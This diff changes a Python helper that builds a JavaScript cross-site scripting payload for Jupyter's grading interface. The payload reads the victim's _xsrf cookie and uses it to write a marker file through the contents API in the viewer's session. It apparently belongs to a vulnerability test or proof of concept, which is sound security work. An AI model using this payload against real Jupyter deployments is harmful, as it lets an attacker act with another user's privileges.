@@ -390,7 +390,7 @@ def view_payload(kind: str) -> str:
     """JavaScript (single quotes only, so it fits in a double-quoted attribute) that attacks the viewer."""
     return (
         "(function(){var m=document.cookie.match(/_xsrf=([^;]+)/);"
-        "var b=location.pathname.split('/formgrader/')[0].split('/files/')[0].split('/lab')[0];"
+        "var b=(location.pathname.match(/^[/]user[/][^/]+/)||[''])[0];"  # the hub's /user/<name> prefix
         f"fetch(b+'/api/contents/{PWNED_FILE.format(kind=kind)}',{{method:'PUT',credentials:'same-origin',"
         "headers:{'Content-Type':'application/json','X-XSRFToken':m?decodeURIComponent(m[1]):''},"
         "body:JSON.stringify({type:'file',format:'text',content:'written by a student'})});"
